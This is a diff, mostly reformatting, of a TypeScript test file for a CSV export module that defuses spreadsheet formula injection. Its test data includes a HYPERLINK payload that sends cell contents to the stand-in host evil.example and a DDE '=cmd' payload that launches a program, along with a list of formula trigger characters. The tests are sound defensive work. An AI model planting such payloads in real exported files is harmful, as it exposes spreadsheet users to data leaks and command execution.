@@ -23,18 +23,22 @@ import {
   type CsvColumn,
 } from '../../src/lib/download/csv';
 
-const parse = (text: string): string[][] => Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { header: false, skipEmptyLines: true }).data;
+const parse = (text: string): string[][] =>
+  Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { header: false, skipEmptyLines: true }).data;
 
 describe('neutralising formula-looking text', () => {
   it.each([
     ['=1+2', "'=1+2"],
-    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `'=HYPERLINK("http://evil.example/?"&A1,"Click")`],
+    [
+      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+      `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
+    ],
     ['+SUM(A1:A9)', "'+SUM(A1:A9)"],
     ['-2+3', "'-2+3"],
     ['@SUM(1,2)', "'@SUM(1,2)"],
     ['\t=1+1', "'\t=1+1"],
     ['\r=1+1', "'\r=1+1"],
-    ['=cmd|\' /C calc\'!A0', "'=cmd|' /C calc'!A0"],
+    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
     // Issue 14.2: what the first neutraliser missed.
     [' =1+2', "' =1+2"],
     ['   +1', "'   +1"],
@@ -53,13 +57,29 @@ describe('neutralising formula-looking text', () => {
     expect(neutraliseText(input)).toBe(output);
   });
 
-  it.each(['Columbus', "Lee's Summit", '', ' Austin', '\u00A0Austin', 'a=b', 'a|b', '１２３', '5125550100', '0000000000', "'=already", 'São Paulo', '東京'])('leaves %j alone', (input) => {
+  it.each([
+    'Columbus',
+    "Lee's Summit",
+    '',
+    ' Austin',
+    '\u00A0Austin',
+    'a=b',
+    'a|b',
+    '１２３',
+    '5125550100',
+    '0000000000',
+    "'=already",
+    'São Paulo',
+    '東京',
+  ])('leaves %j alone', (input) => {
     expect(looksLikeFormula(input)).toBe(false);
     expect(neutraliseText(input)).toBe(input);
   });
 
   it('covers exactly the documented triggers', () => {
-    expect([...FORMULA_TRIGGERS].sort()).toEqual(['\t', '\r', '\n', '+', '-', '=', '@', '|', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'].sort());
+    expect([...FORMULA_TRIGGERS].sort()).toEqual(
+      ['\t', '\r', '\n', '+', '-', '=', '@', '|', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'].sort(),
+    );
   });
 
   it('applies to text columns only: a number column is never altered', () => {
@@ -157,12 +177,24 @@ describe('documents', () => {
   it('gives the same text column-major and row-major', () => {
     const byColumn = columns.map((_, c) => rows.map((r) => r[c]));
     expect(csvFromColumns(columns, byColumn, rows.length)).toBe(csvRows(columns, rows));
-    expect(csvFromColumns(columns, columns.map(() => []), 0)).toBe('');
+    expect(
+      csvFromColumns(
+        columns,
+        columns.map(() => []),
+        0,
+      ),
+    ).toBe('');
     expect(() => csvFromColumns(columns, [[]], 0)).toThrow(/columns/);
   });
 
   it('parses back to the values, text neutralised and numbers untouched', () => {
-    const parsed = parse(toCsv(columns, rows.map((r) => Object.fromEntries(columns.map((c, i) => [c.name, r[i]]))), { bom: true }));
+    const parsed = parse(
+      toCsv(
+        columns,
+        rows.map((r) => Object.fromEntries(columns.map((c, i) => [c.name, r[i]]))),
+        { bom: true },
+      ),
+    );
     expect(parsed).toEqual([
       ['created_at', 'city', 'caller_number', 'source_line', 'robocall'],
       ['2026-01-02 03:04:05', `'=HYPERLINK("x")`, '8005550100', '12', 'true'],
@@ -173,9 +205,28 @@ describe('documents', () => {
   });
 
   it('round-trips arbitrary text: what comes back is the text, or the text after an apostrophe', () => {
-    const alphabet = ['=', '+', '-', '@', '\t', '\r', '\n', '"', ',', "'", ' ', 'a', 'Z', '0', '9', 'é', '—', '😀'];
+    const alphabet = [
+      '=',
+      '+',
+      '-',
+      '@',
+      '\t',
+      '\r',
+      '\n',
+      '"',
+      ',',
+      "'",
+      ' ',
+      'a',
+      'Z',
+      '0',
+      '9',
+      'é',
+      '—',
+      '😀',
+    ];
     let seed = 1;
-    const random = () => ((seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31);
+    const random = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
     const texts: string[] = [];
     for (let i = 0; i < 500; i++) {
       const length = 1 + Math.floor(random() * 8);
@@ -183,10 +234,22 @@ describe('documents', () => {
       for (let j = 0; j < length; j++) t += alphabet[Math.floor(random() * alphabet.length)];
       texts.push(t);
     }
-    const cols: CsvColumn[] = [{ name: 'text', kind: 'text' }, { name: 'n', kind: 'number' }];
-    const text = csvHeader(cols) + csvRows(cols, texts.map((t, i) => [t, -i]));
-    const parsed = Papa.parse<string[]>(text, { header: false, newline: '\r\n' }).data.filter((r) => r.length > 1);
-    expect(parsed.slice(1)).toEqual(texts.map((t, i) => [looksLikeFormula(t) ? `'${t}` : t, String(-i)]));
+    const cols: CsvColumn[] = [
+      { name: 'text', kind: 'text' },
+      { name: 'n', kind: 'number' },
+    ];
+    const text =
+      csvHeader(cols) +
+      csvRows(
+        cols,
+        texts.map((t, i) => [t, -i]),
+      );
+    const parsed = Papa.parse<string[]>(text, { header: false, newline: '\r\n' }).data.filter(
+      (r) => r.length > 1,
+    );
+    expect(parsed.slice(1)).toEqual(
+      texts.map((t, i) => [looksLikeFormula(t) ? `'${t}` : t, String(-i)]),
+    );
   });
 });
 
